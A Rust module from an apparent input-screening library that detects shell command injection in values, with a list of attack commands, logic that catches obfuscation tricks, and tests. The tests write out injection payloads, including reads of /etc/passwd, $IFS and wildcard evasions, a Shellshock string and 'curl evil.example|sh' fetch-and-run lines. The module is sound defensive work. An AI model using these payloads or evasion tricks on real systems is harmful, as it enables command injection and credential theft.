//! Commands of a shell behind a value.
//!
//! A command line, or a document with commands in it, is ordinary. A single value that goes on with a command is not.

use super::{Form, Found, is_word, position};
use crate::shield::rule::Detector;

/// Commands that attacks run, sorted.
const COMMANDS: &[&str] = &[
    "apt-get",
    "arp",
    "awk",
    "base64",
    "bash",
    "bitsadmin",
    "busybox",
    "cat",
    "certutil",
    "chmod",
    "chown",
    "cmd",
    "cmd.exe",
    "cp",
    "crontab",
    "cscript",
    "csh",
    "curl",
    "cut",
    "dd",
    "df",
    "dig",
    "dir",
    "diskutil",
    "dpkg",
    "echo",
    "env",
    "eval",
    "exec",
    "expr",
    "false",
    "find",
    "fping",
    "ftp",
    "gcc",
    "get-childitem",
    "get-content",
    "get-process",
    "grep",
    "gunzip",
    "head",
    "history",
    "host",
    "hostname",
    "id",
    "iex",
    "ifconfig",
    "invoke-expression",
    "invoke-webrequest",
    "ip",
    "ipconfig",
    "iwr",
    "kill",
    "killall",
    "ksh",
    "ls",
    "lsof",
    "lua",
    "mkfifo",
    "mount",
    "mshta",
    "mutt",
    "mv",
    "mysql",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netsh",
    "netstat",
    "nl",
    "nltest",
    "nmap",
    "node",
    "nohup",
    "nslookup",
    "od",
    "openssl",
    "passwd",
    "perl",
    "php",
    "ping",
    "pip",
    "powershell",
    "powershell.exe",
    "printenv",
    "printf",
    "ps",
    "pwd",
    "python",
    "python2",
    "python3",
    "qwinsta",
    "reboot",
    "reg",
    "regsvr32",
    "rev",
    "rm",
    "route",
    "ruby",
    "rundll32",
    "sc",
    "schtasks",
    "scp",
    "sed",
    "set",
    "sh",
    "shutdown",
    "sleep",
    "socat",
    "sort",
    "ssh",
    "strings",
    "su",
    "sudo",
    "sysinfo",
    "systemctl",
    "systeminfo",
    "tac",
    "tail",
    "tar",
    "tasklist",
    "tee",
    "telnet",
    "tftp",
    "timeout",
    "touch",
    "tr",
    "traceroute",
    "true",
    "type",
    "uname",
    "uniq",
    "useradd",
    "ver",
    "vi",
    "vssadmin",
    "w",
    "wc",
    "wevtutil",
    "wget",
    "whereis",
    "which",
    "who",
    "whoami",
    "wmic",
    "wscript",
    "xargs",
    "xxd",
    "zsh",
];

/// For each first letter the lengths of the commands, a bit each.
#[expect(clippy::indexing_slicing, reason = "evaluated when it is compiled")]
const LENGTHS: [u32; 256] = {
    let mut lengths = [0; 256];
    let mut at = 0;
    while at < COMMANDS.len() {
        let command = COMMANDS[at].as_bytes();
        lengths[command[0] as usize] |= 1 << command.len();
        at += 1;
    }
    lengths
};

/// Bytes of a command with its path, as far as it is read.
const MAX_COMMAND_BYTES: usize = 64;

/// Bytes of a command in pieces, and its pieces: a caret before each letter of the longest name.
const MAX_SPELLED_BYTES: usize = 2 * MAX_COMMAND_BYTES;
const MAX_PIECES: usize = 16;

/// Bytes of a value with a command between backticks, within another value.
const MAX_QUOTED_BYTES: usize = 64;

/// Spaces, brackets and words of the shell before a command.
const MAX_SKIPPED_BYTES: usize = 24;

/// Reports commands after a separator. `decoded`: the text is the decoded form of another one.
pub fn find(text: &str, decoded: bool, form: Form, found: Found<'_>) {
    let bytes = text.as_bytes();
    // Nobody sends an encoded newline before a command line.
    let continues = decoded && text.starts_with(['\n', '\r']);
    let begins = !continues && begins_command(text);
    let line = match form {
        Form::Argument => true,
        Form::Line => !begins,
        Form::Document => false,
    };
    if form != Form::Document && (text.starts_with("() {") || text.starts_with("(){")) {
        found(Detector::ShellCommand, 0..text.len());
    }
    // A command that is spelled so that a filter does not know it needs no separator before it.
    if form != Form::Document
        && let Some(command) = command(bytes, 0, b'\n', false, &mut Behind::default())
        && command.disguised
    {
        found(Detector::ShellCommand, 0..command.end);
    }
    let (mut prior, mut behind) = (Prior::default(), Behind::default());
    let mut at = 0;
    while let Some(next) = bytes.get(at..).and_then(|rest| {
        rest.iter().position(|byte| {
            matches!(byte, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'<' | b'>' | b'\\')
        })
    }) {
        let begin = at + next;
        at = begin + 1;
        let mut separator = bytes.get(begin).copied().unwrap_or_default();
        if separator == b'\\' {
            // A line break as source code writes it. Between letters it is part of a Windows path.
            let breaks = matches!(bytes.get(at), Some(b'n' | b'r'));
            let after = super::before(bytes, begin);
            if !breaks
                || after.is_some_and(|byte| is_word(byte) || matches!(byte, b'\\' | b':' | b'.'))
            {
                continue;
            }
            separator = b'\n';
            at += 1;
        }
        // So data in a URL begins.
        if separator == b';' && bytes.get(at..).is_some_and(|rest| rest.starts_with(b"base64,")) {
            continue;
        }
        let opens = bytes.get(at) == Some(&b'(');
        match separator {
            b'$' | b'<' | b'>' if !opens => continue,
            b'$' | b'<' | b'>' => at += 1,
            b'\n' | b'\r' if begin + 1 == bytes.len() => continue,
            _ => {}
        }
        if behind.skipped(bytes, at) > MAX_SKIPPED_BYTES {
            continue;
        }
        prior.read(bytes, begin);
        // Markdown writes code between backticks, and scripts have many lines.
        let words = if line { prior.words } else { 0 };
        let glued = prior.ends_in_word || begin == 0;
        let unknown = line
            && words <= 1
            && matches!(separator, b';' | b'|' | b'&' | b'\n' | b'\r')
            && may_be_unknown(bytes, begin, at, !prior.has_value);
        let Some(command) = command(bytes, at, separator, unknown, &mut behind) else { continue };
        let is_attack = form != Form::Document && command.disguised
            || line
                && match separator {
                    b'`' => glued && words <= 1 && text.len() <= MAX_QUOTED_BYTES,
                    _ if form == Form::Argument && command.plain => true,
                    b'$' | b'<' | b'>' => words <= 1,
                    b'|' | b'\n' | b'\r' => words <= 1,
                    _ => words <= 3,
                };
        found(
            if is_attack { Detector::ShellCommand } else { Detector::ShellMentioned },
            begin..command.end,
        );
    }
}

/// Whether any program can be behind a separator: nothing but separators and quotes is before it, or an option or a path
/// is behind the name. An entity of HTML begins and ends with a separator too.
fn may_be_unknown(bytes: &[u8], begin: usize, at: usize, is_first: bool) -> bool {
    let rest = bytes.get(at..).unwrap_or_default();
    let name = rest.get(opening(rest, 0)..).unwrap_or_default();
    let length = name
        .iter()
        .take_while(|byte| is_word(**byte) || matches!(byte, b'.' | b'/' | b'-'))
        .count();
    let after = name.get(length..).unwrap_or_default();
    if bytes.get(begin) == Some(&b'&') && after.first() == Some(&b';') {
        return false;
    }
    // Rows of a table begin so, and comments of some formats.
    let table = bytes.get(begin) == Some(&b'|') && name.contains(&b'|');
    let argument = matches!(after, [b' ', b'-', b'a'..=b'z' | b'A'..=b'Z', ..] | [b' ', b'/' | b'~' | b'%', b'a'..=b'z', ..]);
    argument || is_first && !table
}

/// What is before a separator. Each byte is read once.
#[derive(Default)]
struct Prior {
    read: usize,
    words: usize,
    ends_in_word: bool,
    /// Whether it has more than quotes, brackets and separators.
    has_value: bool,
}

impl Prior {
    fn read(&mut self, bytes: &[u8], end: usize) {
        for byte in bytes.get(self.read..end).unwrap_or_default() {
            let in_word = !byte.is_ascii_whitespace();
            self.words += usize::from(in_word && !self.ends_in_word);
            self.ends_in_word = in_word;
            self.has_value |= byte.is_ascii_alphanumeric() || !byte.is_ascii() || *byte == b'<';
        }
        self.read = end;
    }
}

/// Whether something in a text can separate commands.
#[must_use]
pub fn may_go_on(text: &str) -> bool {
    text.contains([';', '|', '&', '`', '$', '\n', '\r', '<', '>', '\\'])
}

/// Whether a text is a command line by itself.
fn begins_command(text: &str) -> bool {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c == '`');
    let word = text.split(|c: char| c.is_whitespace()).next().unwrap_or_default();
    let more = text.len() > word.len();
    text.starts_with("#!")
        || text.starts_with("$ ")
        || (more && (is_command(word.as_bytes()) || TOOLS.contains(&word)))
}

/// Commands with which developers' command lines begin.
const TOOLS: [&str; 102] = [
    "!",
    "(",
    "[",
    "[[",
    "alias",
    "apt",
    "apt-get",
    "basename",
    "bc",
    "brew",
    "builtin",
    "bzcat",
    "cargo",
    "cd",
    "chattr",
    "cmake",
    "cmp",
    "comm",
    "compress",
    "cpio",
    "declare",
    "diff",
    "dirname",
    "disown",
    "docker",
    "docker-compose",
    "dpkg-query",
    "du",
    "echo",
    "export",
    "fg",
    "for",
    "fuser",
    "g++",
    "gawk",
    "gcloud",
    "getfacl",
    "gh",
    "git",
    "go",
    "helm",
    "iconv",
    "if",
    "ifconfig",
    "iostat",
    "java",
    "jq",
    "kubectl",
    "ln",
    "lsattr",
    "make",
    "mkdir",
    "mktemp",
    "mvn",
    "mysqldump",
    "npm",
    "npx",
    "pgrep",
    "pkill",
    "pnpm",
    "popd",
    "psql",
    "pstree",
    "pushd",
    "pytest",
    "readlink",
    "readonly",
    "rg",
    "rmdir",
    "rpm",
    "rsync",
    "rustup",
    "seq",
    "set",
    "setfacl",
    "shopt",
    "shuf",
    "source",
    "sqlite3",
    "stat",
    "svn",
    "systemctl",
    "terraform",
    "test",
    "time",
    "tmux",
    "trap",
    "tsort",
    "ulimit",
    "umask",
    "unset",
    "until",
    "uptime",
    "vim",
    "vmstat",
    "while",
    "yarn",
    "zcat",
    "zgrep",
    "zip",
    "zless",
    "{",
];

fn is_command(word: &[u8]) -> bool {
    let name = word.rsplit(|byte| matches!(byte, b'/' | b'\\')).next().unwrap_or_default();
    // Most words are no command by their length and first letter.
    let length = 1_u32.checked_shl(name.len() as u32).unwrap_or_default();
    let letter = name.first().map_or(0, |byte| usize::from(byte.to_ascii_lowercase()));
    if LENGTHS.get(letter).is_none_or(|lengths| lengths & length == 0) {
        return false;
    }
    // `HEAD` is no command.
    let lower = name.iter().any(u8::is_ascii_lowercase);
    lower && position(COMMANDS, |known| known, name).is_some()
}

/// A command that was read.
#[derive(Debug, Clone, Copy)]
struct Command {
    end: usize,
    /// It cannot be prose, whatever came before.
    plain: bool,
    /// It is spelled as only those do who hide it: in pieces, with wildcards, or without spaces.
    disguised: bool,
}

/// Words of the shell before which and after which a command can begin.
const OPENING: [&[u8]; 9] =
    [b"sudo ", b"exec ", b"eval ", b"then ", b"do ", b"if ", b"time ", b"nohup ", b"env "];

/// The command at an offset. What follows must be what follows commands, since many of them are words. `unknown`: it
/// need not be a known one.
fn command(
    bytes: &[u8],
    at: usize,
    separator: u8,
    unknown: bool,
    behind: &mut Behind,
) -> Option<Command> {
    let begin = at + opening(bytes.get(at..)?, behind.skipped(bytes, at));
    if !may_begin(*bytes.get(begin)?) || behind.unnamed == Some(begin) && !unknown {
        return None;
    }
    let brace = super::before(bytes, begin) == Some(b'{') && begin > at;
    // The shell drops quotes, backslashes and empty variables inside of a word.
    let mut word = [0_u8; MAX_COMMAND_BYTES];
    let mut length = 0;
    let mut end = begin;
    let (mut pieces, mut quotes) = (0, [0_usize; 2]);
    while let Some(byte) = bytes.get(end).copied()
        && end - begin < MAX_SPELLED_BYTES
    {
        let next = bytes.get(end + 1).copied();
        if matches!(byte, b'\'' | b'"') {
            if let Some(count) = quotes.get_mut(usize::from(byte == b'"')) {
                *count += 1;
            }
        } else if matches!(byte, b'\\' | b'^')
            && next.is_some_and(|it| it.is_ascii_alphabetic() || it == b'\n' && length > 0)
        {
            pieces += 1;
            end += usize::from(next == Some(b'\n'));
        } else if byte == b'$' && matches!(next, Some(b'@' | b'*' | b'1'..=b'9'))
            || (byte, next) == (b'`', Some(b'`')) && length > 0
        {
            pieces += 1;
            end += 1;
        } else if bytes.get(end..)?.starts_with(b"$()") && length > 0 {
            pieces += 1;
            end += 2;
        } else if is_word(byte) || matches!(byte, b'.' | b'/' | b'-' | b'?' | b'*' | b'[' | b']') {
            *word.get_mut(length)? = byte;
            length += 1;
        } else {
            break;
        }
        end += 1;
        if pieces > MAX_PIECES {
            return None;
        }
    }
    let mut word = word.get(..length)?;
    let variable = if length == 0 { variable(bytes, begin) } else { None };
    if let Some(after) = variable {
        end = after;
        word = b"$";
    }
    let wild = has_wildcard(word);
    let known = is_command(word) || wild || variable.is_some();
    let named = length > 1 && word.iter().any(u8::is_ascii_alphabetic);
    let may_be = known || unknown && named;
    if !may_be {
        behind.unnamed = Some(begin);
        return None;
    }
    let after = bytes.get(end..).unwrap_or_default();
    // A quote that is not closed within the word is prose or the end of a string.
    let closed = quotes.iter().all(|count| count % 2 == 0);
    let whole = quotes.iter().sum::<usize>() == 2
        && matches!(bytes.get(begin), Some(b'\'' | b'"'))
        && matches!(super::before(bytes, end), Some(b'\'' | b'"'));
    let pieced = closed && !whole && pieces + quotes.iter().sum::<usize>() > 0;
    let spaceless = after.starts_with(b"$IFS")
        || after.starts_with(b"${IFS")
        || after.starts_with(b"<<<")
        || redirects(after)
        || (brace && after.first() == Some(&b','));
    let disguised = length > 1 && (pieced || wild || spaceless);
    let spaces = after.iter().take_while(|byte| **byte == b' ' || **byte == b'\t').count();
    let next = after.get(spaces);
    let mut plain = known;
    let follows = match next {
        None
        | Some(
            b';' | b'|' | b'&' | b'`' | b')' | b'}' | b'\n' | b'\r' | b'#' | b'$' | b'>' | b'<'
            | b'{' | b',',
        ) => true,
        Some(b'-' | b'/' | b'~' | b'0'..=b'9' | b'%' | b'*' | b'\\' | b'@' | b':')
            if spaces > 0 =>
        {
            true
        }
        // A line break as source code writes it.
        Some(b'\\') => matches!(after.get(spaces + 1), Some(b'n' | b'r')),
        Some(b'\'' | b'"') => separator != b'`',
        Some(b'.') => spaces > 0 || length == 0,
        Some(_) if !known => return None,
        Some(_) => {
            plain = false;
            (takes_words(word) || at <= 2) && spaces > 0
        }
    };
    let closes = separator != b'`' || after.contains(&b'`') || spaces == after.len();
    ((follows || disguised) && closes).then_some(Command {
        end,
        plain: plain || disguised,
        disguised,
    })
}

/// Whether a command can begin with this byte: one of its letters, what the shell drops, or a variable.
const fn may_begin(byte: u8) -> bool {
    is_word(byte)
        || matches!(
            byte,
            b'.' | b'/'
                | b'-'
                | b'?'
                | b'*'
                | b'['
                | b']'
                | b'\''
                | b'"'
                | b'\\'
                | b'^'
                | b'$'
                | b'%'
        )
}

/// Whether a file is read without a space before it: `</etc/passwd`. A closing tag of HTML is no file.
fn redirects(after: &[u8]) -> bool {
    let Some(path) = after.strip_prefix(b"</") else { return false };
    let name = path.iter().take_while(|byte| is_word(**byte)).count();
    name > 0 && matches!(path.get(name), Some(b'/' | b'.' | b'?' | b'*'))
}

/// The end of a variable that is used as a command: `$0`, `$SHELL`, `${a}`, `%COMSPEC%`.
fn variable(bytes: &[u8], at: usize) -> Option<usize> {
    let rest = bytes.get(at..)?;
    let name = rest.get(1..)?;
    let letters = |from: &[u8]| from.iter().take_while(|byte| is_word(**byte)).count();
    match (rest.first()?, name.first()?) {
        (b'$', b'0') => Some(at + 2),
        (b'$', b'{') => {
            let length = letters(name.get(1..)?);
            (length > 0 && name.get(1 + length) == Some(&b'}')).then_some(at + length + 3)
        }
        (b'$', first) if first.is_ascii_alphabetic() => Some(at + 1 + letters(name)),
        (b'%', first) if first.is_ascii_alphabetic() => {
            let length = letters(name);
            (name.get(length) == Some(&b'%')).then_some(at + length + 2)
        }
        _ => None,
    }
}

/// What is behind the last separators. Many in a row have the same command behind them.
#[derive(Default)]
struct Behind {
    /// Where the spaces and brackets end that are read one by one.
    run_end: usize,
    /// Where no known command begins.
    unnamed: Option<usize>,
}

impl Behind {
    /// The spaces and brackets at an offset. With more than are skipped before a command, there is none.
    fn skipped(&mut self, bytes: &[u8], at: usize) -> usize {
        if self.run_end <= at {
            let rest = bytes.get(at..).unwrap_or_default();
            self.run_end = at + rest.iter().take_while(|byte| is_skipped(**byte)).count();
        }
        self.run_end - at
    }
}

/// Whether a byte before a command does not belong to it.
const fn is_skipped(byte: u8) -> bool {
    matches!(byte, b'{' | b'(' | b'|' | b'&' | b'!' | b'`' | b'@') || byte.is_ascii_whitespace()
}

/// The bytes before a command that do not belong to it: spaces, brackets, and words of the shell. `skipped`: how many of
/// them are known.
fn opening(rest: &[u8], skipped: usize) -> usize {
    let mut at = skipped.min(MAX_SKIPPED_BYTES);
    while at < MAX_SKIPPED_BYTES {
        match rest.get(at) {
            Some(byte) if is_skipped(*byte) => at += 1,
            // The first letters of the words.
            Some(b's' | b'e' | b't' | b'd' | b'i' | b'n') => {
                let left = rest.get(at..).unwrap_or_default();
                match OPENING.iter().find(|word| left.starts_with(word)) {
                    Some(word) => at += word.len(),
                    None => break,
                }
            }
            _ => break,
        }
    }
    at
}

/// Commands after which words follow, and that are no words of prose.
fn takes_words(word: &[u8]) -> bool {
    const NAMES: [&str; 39] = [
        "awk",
        "bash",
        "cat",
        "certutil",
        "chmod",
        "cmd",
        "cp",
        "cscript",
        "curl",
        "dig",
        "dir",
        "ls",
        "mkfifo",
        "mshta",
        "mv",
        "nc",
        "net",
        "netcat",
        "nslookup",
        "perl",
        "php",
        "ping",
        "powershell",
        "python",
        "python3",
        "rm",
        "ruby",
        "sh",
        "sudo",
        "tar",
        "tasklist",
        "telnet",
        "traceroute",
        "type",
        "wget",
        "which",
        "whoami",
        "wmic",
        "wscript",
    ];
    let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
    position(&NAMES, |known| known, name).is_some()
}

/// Whether a path names a command with wildcards: `/bin/c?t`, `/???/b*h`.
fn has_wildcard(word: &[u8]) -> bool {
    let [b'/', rest @ ..] = word else { return false };
    let mut parts = rest.split(|byte| *byte == b'/');
    let is_wild = |part: &[u8]| {
        part.iter().any(|byte| matches!(byte, b'?' | b'['))
            || part.len() > 2 && part.contains(&b'*')
    };
    let first = parts.next().unwrap_or_default();
    // The rest of a path: `/???/c?t` has one more part, a comment of a program has none.
    let known = matches!(first, b"bin" | b"usr" | b"sbin" | b"etc") || is_wild(first);
    let more = parts.clone().any(|part| !part.is_empty());
    known && more && (is_wild(first) || parts.any(is_wild))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finds(text: &str) -> Option<Detector> {
        find_in(text, Form::of(text))
    }

    fn find_in(text: &str, form: Form) -> Option<Detector> {
        let mut worst = None;
        find(text, false, form, &mut |detector, _| {
            if worst != Some(Detector::ShellCommand) {
                worst = Some(detector);
            }
        });
        worst
    }

    #[test]
    fn commands_are_sorted() {
        assert!(COMMANDS.iter().all(|command| is_command(command.as_bytes())));
    }

    #[test]
    fn a_value_that_goes_on_with_a_command_is_found() {
        for text in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x && whoami",
            "`id`",
            "$(sleep 5)",
            ";c'a't /etc/passwd",
            "a;w\\hoami",
            "| /bin/c?t /etc/passwd",
            "x\ncat${IFS}/etc/passwd",
            "a & ping -n 5 127.0.0.1 &",
            "{cat,/etc/passwd}|id",
            "10.0.0.1;a_tool -x /tmp",
            "&&unknown",
            ";$0",
            "x;$a$b /etc/passwd",
            "\\nid\\n",
            "x\rid",
            "x;\"id\"",
            "x|sudo id",
            "$(`id`)",
            "() { ignored; }; echo vulnerable",
        ] {
            assert_eq!(finds(text), Some(Detector::ShellCommand), "{text}");
        }
    }

    #[test]
    fn a_command_that_hides_its_name_needs_no_separator() {
        for text in [
            "c'a't /etc/passwd",
            "w\\ho\\ami",
            "who$@ami",
            "who$()ami",
            "p^o^w^e^r^s^h^e^l^l -c calc",
            "/???/c?t /etc/passwd",
            "cat</etc/passwd",
            "{cat,/etc/passwd}",
            "ls; cat${IFS}/etc/passwd",
        ] {
            assert_eq!(finds(text), Some(Detector::ShellCommand), "{text}");
        }
        for text in [
            "cat /etc/passwd",
            "'cat' /etc/passwd",
            "sorry; I'd like that",
            "/* cat */ x; /* id */",
            "C:\\nc\\new",
        ] {
            assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
        }
    }

    #[test]
    fn prose_scripts_and_command_lines_are_not() {
        for text in [
            "url(data:image/png;base64,AAAA)",
            "&nbsp;&mdash; a",
            "a=1&b=2",
            "text/html; charset=utf-8",
            "wait; sleep well",
            "cats & dogs",
            "a | b",
            "read this; more follows",
            "Tom & find out",
        ] {
            assert_eq!(finds(text), None, "{text}");
        }
        for text in [
            "Use the `id` of the user, please",
            "cd x && ls -la",
            "#!/bin/sh\nset -e; ls",
            "npm test | tee out.txt",
            "To install, run `curl https://x.example/i.sh | sh`.",
        ] {
            assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
        }
    }

    #[test]
    fn an_argument_that_is_no_text_is_no_command_line() {
        for text in [
            "a long text of many words; curl evil.example|sh",
            "git x; curl evil.example|sh",
            "npm test && curl evil.example",
            "a\nb\nc; whoami",
        ] {
            assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
            assert_eq!(find_in(text, Form::Argument), Some(Detector::ShellCommand), "{text}");
        }
    }
}
